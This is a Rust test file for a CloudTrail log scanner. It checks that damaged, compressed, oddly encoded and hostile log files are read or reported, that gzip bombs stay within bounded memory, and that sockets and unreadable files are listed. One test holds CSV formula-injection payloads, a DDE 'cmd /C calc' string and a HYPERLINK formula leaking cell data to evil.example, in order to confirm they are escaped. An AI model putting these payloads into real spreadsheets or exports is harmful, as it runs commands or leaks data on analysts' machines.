//! Every input shape, every kind of damage: the fixture dump from `tools/src/damaged.rs`.

use std::collections::BTreeMap;

use crate::harness::{assert_expected, assert_well_formed, scan};

const DUMP: &str = "tests/fixtures/damaged";

/// The credential event of each case that must be found (the eventIDs name the cases).
const FOUND: [&str; 50] = [
    "r2-after-cut-1",
    "r2-after-cut-2",
    "r2-after-digest",
    "r2-after-empty",
    "r2-after-foo",
    "r2-after-garbage-1",
    "r2-after-garbage-2",
    "r2-after-insight",
    "r2-bom-1",
    "r2-bom-2",
    "r2-duplicate-keys",
    "r2-lone-surrogate",
    "r2-long-first",
    "r2-odd-types",
    "r2-siem-1",
    "r2-siem-2",
    "bomb-survivor",
    "ok-1",
    "plain-named-gz",
    "gzip-named-json",
    "multi-1",
    "multi-2",
    "multi-3",
    "bom",
    "utf16le",
    "utf16be",
    "escaped",
    "jsonl",
    "ndjson-gz",
    "firehose-log",
    "lookup",
    "lookup-jsonl",
    "array",
    "single",
    "eventbridge",
    "mystery",
    "trunc-early",
    "trunc-json-early",
    "trailing",
    "mid-before",
    "mid-after",
    "jsonl-good-1",
    "jsonl-good-2",
    "hostile-deep",
    "hostile-long",
    "hostile-no-identity",
    "hostile-nulls",
    "hostile-future",
    "hostile-utf8",
    "hostile-formula",
];

/// What each file is and how completely it was read.
const STATUS: [(&str, &str, &str); 52] = [
    ("round-2/bom-concatenated.json", "log", "ok"),
    ("round-2/digest-first.json", "log", "ok"),
    ("round-2/digests-only.jsonl", "digest", "skipped"),
    ("round-2/duplicate-keys.json", "log", "ok"),
    ("round-2/empty-object-first.json", "log", "ok"),
    ("round-2/foreign-object-first.json", "log", "ok"),
    ("round-2/insight-first.json.gz", "log", "ok"),
    ("round-2/insights-only.json", "insight", "skipped"),
    ("round-2/lone-surrogate-and-huge-number.json", "log", "ok"),
    ("round-2/long-first-line.jsonl", "log", "partial"),
    ("round-2/long-garbage-line.jsonl", "log", "partial"),
    ("round-2/odd-types.json", "log", "ok"),
    ("round-2/siem-header.jsonl", "log", "ok"),
    (
        "AWSLogs/111122223333/CloudTrail-Digest/us-east-1/2026/03/02/111122223333_CloudTrail-Digest_us-east-1_trail_us-east-1_20260302T120000Z.json.gz",
        "digest",
        "skipped",
    ),
    (
        "AWSLogs/111122223333/CloudTrail-Insight/us-east-1/2026/03/02/111122223333_CloudTrail-Insight_us-east-1_20260302T1205Z_insightinsight01.json.gz",
        "insight",
        "skipped",
    ),
    (
        "AWSLogs/111122223333/CloudTrail/us-east-1/2026/03/02/111122223333_CloudTrail_us-east-1_20260302T1205Z_okokokokokokokok.json.gz",
        "log",
        "ok",
    ),
    ("CloudTrail-Lake/query-1/result_1.csv.gz", "lake", "skipped"),
    ("bombs/whitespace.json.gz", "log", "ok"),
    ("bombs/zeros.json.gz", "log", "unreadable"),
    ("damage/bad-lines.jsonl", "log", "partial"),
    (
        "damage/broken-record-in-the-middle.json.gz",
        "log",
        "partial",
    ),
    ("damage/empty-gzip.json.gz", "log", "ok"),
    ("damage/empty.json.gz", "log", "ok"),
    (
        "damage/garbage-behind-gzip-header.json.gz",
        "log",
        "unreadable",
    ),
    ("damage/no-records.json.gz", "log", "ok"),
    ("damage/random.json.gz", "log", "unreadable"),
    ("damage/trailing-garbage.json.gz", "log", "partial"),
    ("damage/truncated-json.json", "log", "partial"),
    ("damage/truncated.json.gz", "log", "partial"),
    ("damage/whitespace-only.json", "log", "ok"),
    ("hostile/hostile-records.json.gz", "log", "partial"),
    ("links/dangling.json.gz", "other", "unreadable"),
    ("links/loop", "other", "unreadable"),
    ("shapes/array.json", "log", "ok"),
    ("shapes/bom.json", "log", "ok"),
    ("shapes/digest-outside-its-folder.json", "digest", "skipped"),
    ("shapes/eventbridge.jsonl", "log", "ok"),
    ("shapes/events.jsonl", "log", "ok"),
    ("shapes/events.ndjson.gz", "log", "ok"),
    ("shapes/firehose.log", "log", "ok"),
    ("shapes/gzip-but-named.json", "log", "ok"),
    ("shapes/lookup-events.json", "log", "ok"),
    ("shapes/lookup-events.jsonl", "log", "ok"),
    ("shapes/multi-member.json.gz", "log", "ok"),
    ("shapes/mystery", "log", "ok"),
    ("shapes/notes.txt", "other", "skipped"),
    ("shapes/plain-but-named.json.gz", "log", "ok"),
    ("shapes/powershell-utf16le.json", "log", "ok"),
    ("shapes/pretty-sorted-escaped.json", "log", "ok"),
    ("shapes/random.bin", "other", "skipped"),
    ("shapes/single-record.json", "log", "ok"),
    ("shapes/utf16be.json.gz", "log", "ok"),
];

#[test]
fn every_valid_record_is_found_and_every_damaged_file_is_named() {
    let run = scan(&[DUMP]);
    assert_eq!(run.code, 3, "{}", run.stderr);
    assert_well_formed(&run);
    let mut found = run
        .rows("events.csv")
        .into_iter()
        .map(|r| r["event_id"].clone())
        .collect::<Vec<_>>();
    found.sort();
    let mut expected: Vec<String> = FOUND.iter().map(|s| s.to_string()).collect();
    expected.sort();
    assert_eq!(found, expected);

    let manifest: BTreeMap<String, (String, String)> = run
        .rows("manifest.csv")
        .into_iter()
        .map(|r| {
            (
                r["path"].trim_start_matches(&format!("{DUMP}/")).to_owned(),
                (r["kind"].clone(), r["status"].clone()),
            )
        })
        .collect();
    let expected: BTreeMap<String, (String, String)> = STATUS
        .iter()
        .map(|(p, k, s)| (p.to_string(), (k.to_string(), s.to_string())))
        .collect();
    assert_eq!(manifest, expected);

    // One line per file not read completely, naming the file and the reason.
    let warned: Vec<&str> = run
        .stderr
        .lines()
        .filter(|l| l.starts_with("trailsift: warning: "))
        .collect();
    assert_eq!(
        warned.len(),
        STATUS
            .iter()
            .filter(|s| s.2 == "partial" || s.2 == "unreadable")
            .count(),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("damage/truncated.json.gz: partial: gzip data damaged after 8762 decompressed bytes: truncated (the gzip stream ends early); 1 record could not be read, first #6"));
    assert!(
        run.stderr
            .contains("links/loop: unreadable: symbolic link loop back to")
    );
    assert!(
        run.stdout
            .contains("some inputs were not read completely, see"),
        "{}",
        run.stdout
    );

    assert_expected(
        &run,
        "damaged",
        &["manifest.csv", "problems.csv", "events.csv"],
    );
}

#[test]
fn attacker_controlled_cells_cannot_run_as_formulas_or_overflow_a_cell() {
    let run = scan(&[
        DUMP,
        "--user",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "--user",
        "u-hostile-long",
    ]);
    let rows = run.rows("events.csv");
    let formula = rows
        .iter()
        .find(|r| r["event_id"] == "hostile-formula")
        .unwrap();
    assert_eq!(formula["actor"], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(
        formula["user_agent"],
        "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"
    );
    let long = rows
        .iter()
        .find(|r| r["event_id"] == "hostile-long")
        .unwrap();
    assert!(long["user_agent"].chars().count() <= 32_000);
    assert!(long["user_agent"].starts_with("AAAA"));
    assert!(
        long["user_agent"].ends_with("more characters]"),
        "{}",
        &long["user_agent"][31_900..]
    );
    let timeline = run.rows("timeline.csv");
    assert!(
        timeline
            .iter()
            .any(|r| r["user"] == "'@SUM(1+1)*cmd|' /C calc'!A0")
    );
}

#[cfg(target_os = "linux")]
#[test]
fn gzip_bombs_keep_memory_bounded() {
    // 256 MiB of zeros and 64 MiB of whitespace around one record: both bigger than the
    // per-thread buffer, so they stream; the zeros stop at the first byte that is not JSON.
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    let (code, peak) = crate::memory::peak_rss(&[
        "scan",
        "tests/fixtures/damaged/bombs",
        "--threads",
        "2",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert_eq!(code, 3);
    let events = std::fs::read_to_string(out.join("events.csv")).unwrap();
    let ids: Vec<String> = crate::harness::rows(&events)
        .into_iter()
        .map(|r| r["event_id"].clone())
        .collect();
    assert_eq!(ids, ["bomb-survivor"]);
    assert!(peak < 128 << 20, "peak RSS {} MiB", peak >> 20);
}

#[cfg(unix)]
#[test]
fn odd_names_sockets_fifos_and_unreadable_files_are_listed_not_fatal() {
    use std::os::unix::ffi::OsStrExt;
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("dump");
    std::fs::create_dir(&root).unwrap();
    let record = r#"{"Records":[{"eventVersion":"1.09","eventSource":"iam.amazonaws.com","eventName":"ChangePassword","eventID":"odd-name","userIdentity":{"type":"IAMUser","userName":"x"}}]}"#;
    std::fs::write(
        root.join(std::ffi::OsStr::from_bytes(b"caf\xe9-\xff.json")),
        record,
    )
    .unwrap();
    let _socket = std::os::unix::net::UnixListener::bind(root.join("agent.sock")).unwrap();
    let fifo = std::ffi::CString::new(root.join("pipe.json").as_os_str().as_bytes()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o600) }, 0);
    let locked = root.join("locked.json");
    std::fs::write(&locked, record.replace("odd-name", "locked")).unwrap();
    std::os::unix::fs::PermissionsExt::set_mode(
        &mut std::fs::metadata(&locked).unwrap().permissions(),
        0o000,
    );
    std::fs::set_permissions(&locked, std::os::unix::fs::PermissionsExt::from_mode(0o000)).unwrap();
    // Root reads anything: then the file is simply read.
    let root_user = std::fs::read(&locked).is_ok();

    let run = scan(&[root.to_str().unwrap()]);
    let manifest: BTreeMap<String, (String, String, String)> = run
        .rows("manifest.csv")
        .into_iter()
        .map(|r| {
            (
                r["path"].rsplit('/').next().unwrap().to_owned(),
                (r["kind"].clone(), r["status"].clone(), r["error"].clone()),
            )
        })
        .collect();
    assert_eq!(manifest["caf\\xe9-\\xff.json"].1, "ok");
    assert_eq!(
        manifest["agent.sock"],
        (
            "other".into(),
            "skipped".into(),
            "not a regular file (a socket, FIFO or device)".into()
        )
    );
    assert_eq!(
        manifest["pipe.json"],
        (
            "other".into(),
            "skipped".into(),
            "not a regular file (a socket, FIFO or device)".into()
        )
    );
    let events: Vec<String> = run
        .rows("events.csv")
        .into_iter()
        .map(|r| {
            format!(
                "{} {}",
                r["event_id"],
                r["source_file"].rsplit('/').next().unwrap()
            )
        })
        .collect();
    if root_user {
        assert_eq!(run.code, 0, "{}", run.stderr);
        assert_eq!(manifest["locked.json"].1, "ok");
        assert_eq!(
            events,
            ["locked locked.json", "odd-name caf\\xe9-\\xff.json"]
        );
    } else {
        assert_eq!(run.code, 3, "{}", run.stderr);
        assert_eq!(manifest["locked.json"].1, "unreadable");
        assert!(manifest["locked.json"].2.contains("ermission denied"));
        assert_eq!(events, ["odd-name caf\\xe9-\\xff.json"]);
    }
}
